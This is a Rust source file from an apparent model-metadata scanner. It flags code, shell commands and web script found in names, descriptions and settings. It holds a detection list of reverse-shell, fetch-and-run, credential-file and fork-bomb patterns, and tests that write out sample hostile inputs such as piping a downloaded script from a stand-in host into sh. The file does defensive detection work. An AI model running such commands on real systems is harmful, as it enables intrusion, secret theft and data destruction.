//! Judges free texts: names, descriptions and settings in a model's metadata. A command or a piece
//! of code has no business there, and some tools do run it.

use super::{LOOK, Opinion, REFUSE};
use crate::finding::Severity;

/// What a marker says.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Python,
    Shell,
    Web,
    Network,
}

/// Texts that only code or a command has in it, in lower case.
const MARKERS: &[(&str, Kind)] = &[
    ("__import__(", Kind::Python),
    ("os.system(", Kind::Python),
    ("os.popen(", Kind::Python),
    ("os.exec", Kind::Python),
    ("os.spawn", Kind::Python),
    ("subprocess.popen", Kind::Python),
    ("subprocess.call", Kind::Python),
    ("subprocess.run", Kind::Python),
    ("subprocess.check_", Kind::Python),
    ("subprocess.getoutput", Kind::Python),
    ("eval(compile(", Kind::Python),
    ("exec(compile(", Kind::Python),
    ("exec(base64", Kind::Python),
    ("eval(base64", Kind::Python),
    ("exec(\"", Kind::Python),
    ("exec('", Kind::Python),
    ("eval('", Kind::Python),
    ("eval(\"", Kind::Python),
    ("exec(open(", Kind::Python),
    ("exec(requests", Kind::Python),
    ("exec(bytes", Kind::Python),
    ("exec(decode", Kind::Python),
    ("exec(zlib", Kind::Python),
    ("exec(marshal", Kind::Python),
    ("eval(input", Kind::Python),
    ("pty.spawn(", Kind::Python),
    ("__builtins__", Kind::Python),
    ("__globals__", Kind::Python),
    ("__subclasses__", Kind::Python),
    ("importlib.import_module(", Kind::Python),
    ("import os;", Kind::Python),
    ("import os\n", Kind::Python),
    ("import subprocess", Kind::Python),
    ("import socket", Kind::Python),
    ("import ctypes", Kind::Python),
    ("pickle.loads(", Kind::Python),
    ("marshal.loads(", Kind::Python),
    ("socket.socket(", Kind::Python),
    ("b64decode(", Kind::Python),
    ("__reduce__", Kind::Python),
    ("builtins.eval", Kind::Python),
    ("builtins.exec", Kind::Python),
    ("system(\"", Kind::Python),
    ("system('", Kind::Python),
    ("base::system", Kind::Python),
    ("shutil.rmtree(", Kind::Python),
    ("getattr(__", Kind::Python),
    ("runtime.getruntime()", Kind::Python),
    ("processbuilder(", Kind::Python),
    ("child_process", Kind::Python),
    ("eval(parse(", Kind::Python),
    ("| sh", Kind::Shell),
    ("|sh", Kind::Shell),
    ("| bash", Kind::Shell),
    ("|bash", Kind::Shell),
    ("bash -c", Kind::Shell),
    ("bash -i", Kind::Shell),
    ("sh -c ", Kind::Shell),
    ("/bin/sh", Kind::Shell),
    ("/bin/bash", Kind::Shell),
    ("/dev/tcp/", Kind::Shell),
    ("nc -e", Kind::Shell),
    ("ncat ", Kind::Shell),
    ("netcat ", Kind::Shell),
    ("rm -rf", Kind::Shell),
    ("rm -fr", Kind::Shell),
    ("chmod 777", Kind::Shell),
    ("chmod +x", Kind::Shell),
    ("mkfifo ", Kind::Shell),
    ("powershell -", Kind::Shell),
    ("powershell.exe", Kind::Shell),
    ("cmd.exe", Kind::Shell),
    ("cmd /c", Kind::Shell),
    ("python -c", Kind::Shell),
    ("python3 -c", Kind::Shell),
    ("perl -e", Kind::Shell),
    ("ruby -e", Kind::Shell),
    ("curl -", Kind::Shell),
    ("curl http", Kind::Shell),
    ("wget -", Kind::Shell),
    ("wget http", Kind::Shell),
    ("base64 -d", Kind::Shell),
    ("/etc/passwd", Kind::Shell),
    ("/etc/shadow", Kind::Shell),
    ("crontab ", Kind::Shell),
    ("certutil -", Kind::Shell),
    ("invoke-expression", Kind::Shell),
    ("iex(", Kind::Shell),
    ("~/.ssh", Kind::Shell),
    ("id_rsa", Kind::Shell),
    (":(){", Kind::Shell),
    ("$(curl", Kind::Shell),
    ("$(wget", Kind::Shell),
    ("`curl", Kind::Shell),
    ("<script", Kind::Web),
    ("javascript:", Kind::Web),
    ("onerror=", Kind::Web),
    ("document.cookie", Kind::Web),
    ("<iframe", Kind::Web),
    ("data:text/html", Kind::Web),
    ("http://", Kind::Network),
    ("https://", Kind::Network),
    ("ftp://", Kind::Network),
];

/// Markers that are words of ordinary texts too, and count only where they begin and end a word;
/// a pipe into a shell, only where something is there to be piped.
fn counts(marker: &str, kind: Kind, text: &str, before: Option<char>, after: Option<char>) -> bool {
    let letter = |c: char| c.is_ascii_alphanumeric() || c == '_';
    if marker.starts_with(|c: char| c.is_ascii_alphabetic()) && before.is_some_and(letter) {
        return false;
    }
    if kind == Kind::Shell && marker.ends_with(letter) && after.is_some_and(letter) {
        // `curl http` goes on with `s://`.
        return marker.ends_with("http") && after == Some('s');
    }
    !marker.starts_with('|')
        || ["curl", "wget", "http", "base64", "echo", "cat ", "fetch"]
            .iter()
            .any(|w| text.contains(w))
}

fn kinds(text: &str) -> (Vec<(&'static str, Kind)>, usize) {
    let lower = text.to_lowercase();
    let mut hits = Vec::new();
    for (marker, kind) in MARKERS {
        let found = memchr::memmem::find_iter(lower.as_bytes(), marker).any(|at| {
            let before = lower.get(..at).and_then(|head| head.chars().next_back());
            let after = lower.get(at + marker.len()..).and_then(|rest| rest.chars().next());
            counts(marker, *kind, &lower, before, after)
        });
        if found {
            hits.push((*marker, *kind));
        }
    }
    let first = hits
        .iter()
        .filter(|(_, kind)| *kind != Kind::Network)
        .filter_map(|(marker, _)| lower.find(marker))
        .min()
        .unwrap_or(0);
    (hits, first)
}

/// Judges a text.
pub fn judge(key: &str, text: &str) -> Option<Opinion> {
    if let Some(opinion) = keys(key, text) {
        return Some(opinion);
    }
    let (hits, first) = kinds(text);
    let has = |kind| hits.iter().any(|(_, hit)| *hit == kind);
    let (what, severity) = match (has(Kind::Python), has(Kind::Shell), has(Kind::Web)) {
        (true, true, _) => ("code and commands", Severity::High),
        (true, false, _) if has(Kind::Network) => ("code that names addresses", Severity::High),
        (false, true, _) if has(Kind::Network) => ("commands that name addresses", Severity::High),
        (true, ..) => ("code", Severity::Medium),
        (_, true, _) => ("commands", Severity::Medium),
        (.., true) => ("active web content", Severity::Medium),
        _ => return None,
    };
    let shown: String = text
        .char_indices()
        .skip_while(|(at, _)| at + 24 < first)
        .map(|(_, c)| c)
        .take(120)
        .collect();
    Some(Opinion::new(
        "text.code",
        severity,
        format!("The text under `{}` holds {what}; a model has no use for that.", cut(key)),
        shown,
        if severity == Severity::High { REFUSE } else { LOOK },
    ))
}

/// Keys that say themselves what their text is for.
fn keys(key: &str, text: &str) -> Option<Opinion> {
    if crate::policy::rules::escapes(key) {
        return Some(Opinion::new(
            "text.key_path",
            Severity::Medium,
            "A name in the metadata is a path that leads out of the model's folder.",
            key,
            LOOK,
        ));
    }
    let _ = text;
    None
}

fn cut(key: &str) -> String {
    key.chars().take(60).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn severity(text: &str) -> Option<Severity> {
        judge("description", text).map(|opinion| opinion.severity)
    }

    #[test]
    fn commands_and_code_are_found() {
        assert_eq!(severity("rm -rf /"), Some(Severity::Medium));
        assert_eq!(severity("import os; os.system('curl http://x.example')"), Some(Severity::High));
        assert_eq!(severity("bash -c 'curl https://x.example/p.sh | sh'"), Some(Severity::High));
        assert_eq!(severity("<SCRIPT>alert(1)</script>"), Some(Severity::Medium));
    }

    #[test]
    fn ordinary_texts_are_not() {
        for text in [
            "A model for sentiment, trained on reviews. See https://example.org/card.",
            "MIT",
            "12M",
            "execution benchmark summary for mobile profile",
            "evaluation: accuracy 94.5%",
            "swish | shuffle",
            "word= |SHW",
            "|sh| 0.3",
            "import osmosis",
            "curly hair",
            "The operating system (Linux)",
            "subprocess of thought",
        ] {
            assert_eq!(severity(text), None, "{text}");
        }
    }

    #[test]
    fn a_key_that_is_a_path_out_is_found() {
        assert!(judge("../../etc/passwd", "root").is_some());
    }
}
